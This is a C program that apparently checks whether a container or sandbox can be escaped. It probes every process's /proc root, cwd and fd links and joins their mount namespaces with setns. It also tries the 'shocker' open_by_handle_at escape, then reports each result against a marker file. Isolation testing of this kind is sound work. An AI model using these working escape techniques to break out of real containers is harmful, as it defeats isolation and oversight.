/* Reaches the host through the magic links of every process in sight. argv: marker */
#include "attack.h"
#include <dirent.h>
#include <sched.h>
#include <sys/syscall.h>

static bool link_leads_out(const char *pid, const char *link, const char *marker)
{
        char path[4096];
        snprintf(path, sizeof(path), "/proc/%s/%s%s", pid, link, marker);
        if (sees(path))
                return true;
        snprintf(path, sizeof(path), "/proc/%s/%s/../../../../../..%s", pid, link, marker);
        return sees(path);
}

static bool descriptors_lead_out(const char *pid, const char *marker)
{
        char path[512];
        snprintf(path, sizeof(path), "/proc/%s/fd", pid);
        DIR *folder = opendir(path);
        if (!folder)
                return false;
        bool through = false;
        for (struct dirent *entry; (entry = readdir(folder));) {
                char link[300];
                snprintf(link, sizeof(link), "fd/%s", entry->d_name);
                through = through || (entry->d_name[0] != '.' && link_leads_out(pid, link, marker));
        }
        closedir(folder);
        return through;
}

static bool joins(const char *pid, const char *kind, const char *marker)
{
        char path[512];
        snprintf(path, sizeof(path), "/proc/%s/ns/%s", pid, kind);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return false;
        bool through = setns(fd, 0) == 0 && sees(marker);
        close(fd);
        return through;
}

int main(int argc, char **argv)
{
        if (argc != 2)
                return 2;
        DIR *proc = opendir("/proc");
        if (!proc)
                return 2;
        bool root = false, cwd = false, fds = false, join = false;
        for (struct dirent *entry; (entry = readdir(proc));) {
                if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
                        continue;
                root = root || link_leads_out(entry->d_name, "root", argv[1]);
                cwd = cwd || link_leads_out(entry->d_name, "cwd", argv[1]);
                fds = fds || descriptors_lead_out(entry->d_name, argv[1]);
                join = join || joins(entry->d_name, "mnt", argv[1]);
        }
        closedir(proc);
        attempt("/proc/*/root", root);
        attempt("/proc/*/cwd", cwd);
        attempt("/proc/*/fd", fds);
        attempt("/proc/*/ns/mnt", join);
        /* A handle of the host's root inode needs CAP_DAC_READ_SEARCH over the file system (the "shocker" escape) */
        union { struct file_handle handle; char room[sizeof(struct file_handle) + 8]; } root_inode = { .handle = { .handle_bytes = 8, .handle_type = 1 } };
        root_inode.handle.f_handle[0] = 2;
        int here = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        int fd = open_by_handle_at(here, &root_inode.handle, O_RDONLY | O_DIRECTORY);
        attempt("open_by_handle_at of inode 2", fd >= 0 && fchdir(fd) == 0 && sees(argv[1] + 1));
        return verdict();
}
